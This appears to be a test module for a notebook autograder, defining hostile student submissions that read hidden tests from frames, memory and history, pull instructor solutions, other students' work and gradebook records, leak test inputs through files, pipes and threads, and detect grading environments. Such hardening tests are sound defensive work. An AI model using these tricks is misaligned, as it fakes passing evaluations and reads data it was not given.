"""Points from looking: the answer or the test is somewhere in reach of the code that runs."""

from nbformat.notebooknode import NotebookNode

from ..submission import Book, hostile


@hostile()
def expected_value_from_the_caller(book: Book) -> NotebookNode:
    """Functions read the constants and the source of whoever called them and try them all."""
    return book.everything_is(
        """
        import sys

        class OneOf:
            def __init__(self, values):
                self.values = values
            def __eq__(self, other):
                return other in self.values
            def __sub__(self, other):
                return 0.0 if other in self.values else 1.0
            __hash__ = None

        def looked_up(*rest):
            frame, found = sys._getframe(1), []
            while frame is not None:
                found += [c for c in frame.f_code.co_consts if c is not None]
                for value in list(frame.f_locals.values()):
                    found.append(value)
                frame = frame.f_back
            print(found)
            return OneOf(found)
        """,
        "looked_up",
    )


@hostile()
def caller_s_names_changed(book: Book) -> NotebookNode:
    """Functions reach into the caller's globals and replace what it compares with."""
    return book.everything_is(
        """
        import sys

        def changed(*rest):
            frame = sys._getframe(1)
            while frame is not None:
                frame.f_globals["np"] = None
                frame.f_globals["earned"] = 3
                frame.f_globals["abs"] = lambda value: 0
                frame.f_globals["__builtins__"] = {"list": lambda rest: [2, 4]}
                frame = frame.f_back
            return 0
        """,
        "changed",
    )


@hostile()
def tests_from_the_history(book: Book) -> NotebookNode:
    """Functions read the running test from In, from _ih and from the kernel's last request."""
    return book.everything_is(
        """
        import re

        def from_history(*rest):
            shell = get_ipython()
            texts = [*shell.user_ns.get("In", []), *shell.user_ns.get("_ih", [])]
            texts += list(getattr(shell.history_manager, "input_hist_raw", []))
            texts.append(repr(shell.kernel.get_parent()))
            print(texts)
            for value in re.findall(r"[=]= *([-0-9.]+)", " ".join(texts)):
                return float(value)
        """,
        "from_history",
    )


@hostile()
def tests_from_the_garbage_collector(book: Book) -> NotebookNode:
    """Every string, frame and code object of the process is searched for tests."""
    return book.everything_is(
        """
        import gc
        import types

        def collected(*rest):
            for thing in gc.get_objects():
                if isinstance(thing, (types.FrameType, types.CodeType, dict, list, tuple)):
                    text = ""
                    if isinstance(thing, types.CodeType):
                        text = repr(thing.co_consts) + repr(thing.co_names)
                    elif isinstance(thing, types.FrameType):
                        text = repr(thing.f_code.co_consts)
                    elif len(thing) < 400:
                        values = thing.values() if isinstance(thing, dict) else thing
                        text = " ".join(v for v in values if isinstance(v, str))
                    for word in ("hero" + "n_", "kestr" + "elg", "9021" + "0.5", "cormor" + "ant"):
                        if word in text:
                            print(text[:4000])
            return 0
        """,
        "collected",
    )


@hostile()
def tests_from_the_memory(book: Book) -> NotebookNode:
    """The process reads its own memory by /proc/self/mem and looks for tests there."""
    return book.everything_is(
        """
        import re

        def remembered(*rest):
            words = [("hero" + "n_hi").encode(), ("kestr" + "elgr").encode(),
                     ("cormor" + "ant_so").encode()]
            with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
                for line in maps:
                    span = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line)
                    if not span:
                        continue
                    start, end = (int(part, 16) for part in span.groups())
                    try:
                        memory.seek(start)
                        text = memory.read(min(end - start, 2**25))
                    except (OSError, ValueError):
                        continue
                    for word in words:
                        place = text.find(word)
                        if place >= 0:
                            print(text[place : place + 60])
            return 0
        """,
        "remembered",
    )


@hostile()
def tests_from_the_working_folder(book: Book) -> NotebookNode:
    """The graded notebook, with hidden tests, is read from the folder where the kernel runs."""
    return book.opening("""
        import glob
        import json

        for pattern in ("*", "*/*", "../*", "../*/*", "../../*", "../../*/*/*"):
            for path in glob.glob(pattern):
                try:
                    print(path, open(path, errors="replace").read()[:200_000])
                except OSError as error:
                    print(path, error)
        """)


@hostile()
def answers_from_the_source_notebook(book: Book) -> NotebookNode:
    """Solutions are read from the instructor's notebook and executed."""
    return book.opening(
        """
        import glob
        import json

        for root in ("/home/teacher/course/assignments", "../../..", "../../../assignments"):
            for path in glob.glob(root + "/source/*/*.ipynb"):
                for cell in json.load(open(path))["cells"]:
                    source = "".join(cell["source"])
                    if "BEGIN SOLUTION" in source:
                        print(source)
                        exec(source, globals())
        """,
        book.solved("nothing", **dict.fromkeys(
            ("clamp", "rescale", "mean", "tally", "pick", "announce"), "pass"
        )),
    )  # fmt: skip


@hostile()
def answers_from_another_submission(book: Book) -> NotebookNode:
    """Right answers are read from a neighbour's submission and executed."""
    return book.opening(
        """
        import glob
        import json

        for path in glob.glob("/home/teacher/course/assignments/*/*/homework/*.ipynb"):
            for cell in json.load(open(path))["cells"]:
                source = "".join(cell["source"])
                if cell["cell_type"] == "code" and "assert" not in source:
                    print(path, source)
                    try:
                        exec(source, globals())
                    except Exception:
                        pass
        """,
        book.solved("nothing", **dict.fromkeys(
            ("clamp", "rescale", "mean", "tally", "pick", "announce"), "pass"
        )),
    )  # fmt: skip


@hostile()
def tests_from_the_gradebook(book: Book) -> NotebookNode:
    """The gradebook is opened and its cells, students and grades are printed."""
    return book.opening("""
        import glob
        import sqlite3

        for path in glob.glob("/home/teacher/course/assignments/*.db") + glob.glob("../../*.db"):
            base = sqlite3.connect(path)
            for (table,) in base.execute("select name from sqlite_master where type='table'"):
                print(table, base.execute(f"select * from {table}").fetchall())
        """)


@hostile()
def hidden_inputs_kept_for_later(book: Book) -> NotebookNode:
    """Functions keep their arguments in a global, and a later cell prints them."""
    return book.closing(
        "print(kept)",
        book.opening(
            "kept = []",
            book.solved(
                clamp="def clamp(*rest):\n    kept.append(rest)\n    raise KeyError",
                rescale="def rescale(*rest):\n    kept.append(rest)\n    raise KeyError",
                mean="""
                    class RunningMean:
                        def add(self, number):
                            kept.append(number)
                    """,
                tally="def tally(*rest):\n    kept.append(rest)\n    raise KeyError",
                pick="""
                    def pick(numbers, keep):
                        kept.append((numbers, keep))
                        raise KeyError
                    """,
                announce="def announce(*rest):\n    kept.append(rest)\n    raise KeyError",
            ),
        ),
    )


def spy(how: str) -> dict[str, str]:
    """Return right-looking answers that hand each of their arguments to `told`."""
    return {
        "clamp": f"""
            def clamp(x, low, high):
                told(x, low, high)
                if low > high:
                    raise ValueError
                return max(low, min(x, high))
            def told(*rest):
                {how}
            """,
        "tally": f"""
            def tally(words, counts):
                told(words, counts)
                new = sorted(set(words) - set(counts))
                for word in words:
                    counts[word] = counts.get(word, 0) + 1
                return new
            def told(*rest):
                {how}
            """,
        "pick": f"""
            def pick(numbers, keep):
                told(numbers)
                return [number for number in numbers if keep(number)]
            def told(*rest):
                {how}
            """,
    }


EARNED = 10.0  # right answers to clamp, tally and pick, of which an honest student has the points


@hostile(EARNED)
def hidden_inputs_printed(book: Book) -> NotebookNode:
    """Right functions print their arguments while the hidden tests call them."""
    return book.solved("nothing", **spy("print(rest)"))


@hostile(EARNED)
def hidden_inputs_displayed(book: Book) -> NotebookNode:
    """Right functions display their arguments as HTML and as a result."""
    return book.solved("nothing", **spy("display(rest); get_ipython().displayhook(rest)"))


@hostile(EARNED)
def hidden_inputs_warned_about(book: Book) -> NotebookNode:
    """Right functions warn, log and write to stderr with their arguments."""
    how = "import logging, sys, warnings; warnings.warn(repr(rest)); logging.error(rest); "
    return book.solved("nothing", **spy(how + "sys.stderr.write(repr(rest))"))


@hostile(EARNED)
def hidden_inputs_in_a_file(book: Book) -> NotebookNode:
    """Right functions write their arguments to files, which a later cell prints."""
    how = """[open(d + "/seen", "a").write(repr(rest)) for d in dirs]"""
    notebook = book.opening(
        """
        import os
        import tempfile

        dirs = [d for d in (".", "/tmp", "/dev/shm", os.path.expanduser("~"), "/scratch",
                            tempfile.gettempdir()) if os.access(d, os.W_OK)]
        """,
        book.solved("nothing", **spy(how)),
    )
    return book.closing(
        "for d in dirs:\n    print(open(d + '/seen').read() if os.path.exists(d + '/seen') else d)",
        notebook,
    )


@hostile(EARNED)
def hidden_inputs_by_shared_memory(book: Book) -> NotebookNode:
    """Functions write their arguments into a shared mapping that was there before the tests."""
    how = "page.seek(0); page.write(repr(rest).encode()[:4000])"
    notebook = book.opening(
        "import mmap\npage = mmap.mmap(-1, 8192)", book.solved("nothing", **spy(how))
    )
    return book.closing(r"print(bytes(page).strip(b'\0'))", notebook)


@hostile(EARNED)
def hidden_inputs_by_a_pipe(book: Book) -> NotebookNode:
    """Functions write their arguments into a pipe and a socket made before the tests."""
    how = "os.write(pipe[1], repr(rest).encode()); pair[1].send(repr(rest).encode())"
    notebook = book.opening(
        """
        import os
        import socket

        pipe = os.pipe()
        pair = socket.socketpair()
        """,
        book.solved("nothing", **spy(how)),
    )
    return book.closing(
        """
        os.set_blocking(pipe[0], False)
        pair[0].setblocking(False)
        try:
            print(os.read(pipe[0], 10_000))
        finally:
            print(pair[0].recv(10_000))
        """,
        notebook,
    )


@hostile(EARNED)
def hidden_inputs_by_a_forked_process(book: Book) -> NotebookNode:
    """A process forked before the tests waits for what the tested functions send it."""
    how = "os.write(pipe[1], repr(rest).encode() + b'|')"
    notebook = book.opening(
        """
        import os

        pipe = os.pipe()
        if os.fork() == 0:
            while True:
                text = os.read(pipe[0], 4000)
                with open("/tmp/heard", "ab") as file:
                    file.write(text)
        """,
        book.solved("nothing", **spy(how)),
    )
    return book.closing("print(open('/tmp/heard').read())", notebook)


@hostile(EARNED)
def hidden_inputs_in_an_unlinked_file(book: Book) -> NotebookNode:
    """Functions write their arguments into a file that is open and has no name."""
    how = "os.write(handle.fileno(), repr(rest).encode())"
    notebook = book.opening(
        "import os, tempfile\nhandle = tempfile.TemporaryFile()",
        book.solved("nothing", **spy(how)),
    )
    return book.closing("handle.seek(0)\nprint(handle.read())", notebook)


@hostile(EARNED)
def hidden_inputs_by_a_thread(book: Book) -> NotebookNode:
    """A thread that started before the tests prints what the functions were given."""
    notebook = book.opening(
        """
        import threading
        import time

        seen = []

        def watch():
            while True:
                while seen:
                    print(seen.pop(), flush=True)
                time.sleep(0.01)

        threading.Thread(target=watch, daemon=True).start()
        """,
        book.solved("nothing", **spy("seen.append(rest); time.sleep(0.05)")),
    )
    return book.closing("time.sleep(0.3)", notebook)


@hostile()
def callback_examined(book: Book) -> NotebookNode:
    """The function handed to `pick` is searched for its code, constants and globals."""
    return book.solved(
        "nothing",
        pick="""
            def pick(numbers, keep):
                print(dir(keep), getattr(keep, "__code__", None))
                for name in ("__globals__", "__closure__", "__code__", "__defaults__", "__self__",
                             "__dict__", "__wrapped__", "__func__", "__reduce__", "__class__"):
                    print(name, getattr(keep, name, None))
                code = getattr(keep, "__code__", None)
                print(code and (code.co_consts, code.co_names))
                wanted = [c for c in (code.co_consts if code else ()) if isinstance(c, int)]
                return wanted or [2, 4]
            """,
    )


@hostile(forbidden=("GRADED", "DEFAULT_GRADER"))
def probing_by_the_environment(book: Book) -> NotebookNode:
    """The code looks for signs that it is being graded: variables, arguments, folders, parents."""
    return book.opening("""
        import os
        import sys

        if any("NBGRADER" in name or "GRADER" in name for name in os.environ):
            print("GRA" + "DED")
        if any("autograded" in text for text in (os.getcwd(), *os.environ.values())):
            print("GRA" + "DED")
        print(sys.argv, os.getcwd(), dict(os.environ))
        """)
